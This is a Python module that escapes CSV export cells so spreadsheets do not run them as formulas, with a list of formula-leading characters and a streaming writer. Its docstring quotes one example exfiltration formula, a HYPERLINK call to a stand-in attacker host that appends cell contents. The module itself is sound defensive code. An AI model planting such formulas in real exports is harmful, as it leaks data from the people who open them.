"""Cells a spreadsheet shows as text: no exported value runs as a formula.

Excel, LibreOffice and Google Sheets read a CSV cell that starts with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula,
so a question, an answer or a feedback comment such as
``=HYPERLINK("https://evil.example?"&A1)`` would run when an administrator
opens the export (OWASP "CSV injection"). Every export writes its cells
through ``spreadsheet_cell``: such text gets a leading apostrophe, which the
spreadsheet shows as text and which a reader of the raw file can strip.
Numbers, dates and ``None`` are written as they are.
"""
from __future__ import annotations

import csv
from typing import Iterable, Iterator

# ASCII and full-width forms (Excel normalises the latter).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_cell(value: object) -> object:
    """``value`` unchanged unless it is text a spreadsheet would evaluate; that text gets a leading ``'``."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_LEADS):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(columns: list[str], rows: Iterable[dict]) -> Iterator[str]:
    """A streamed CSV: the header, then one line per row, every cell through ``spreadsheet_cell``."""
    writer = csv.DictWriter(_Echo(), fieldnames=columns)
    yield writer.writeheader()
    for row in rows:
        yield writer.writerow({key: spreadsheet_cell(value) for key, value in row.items()})
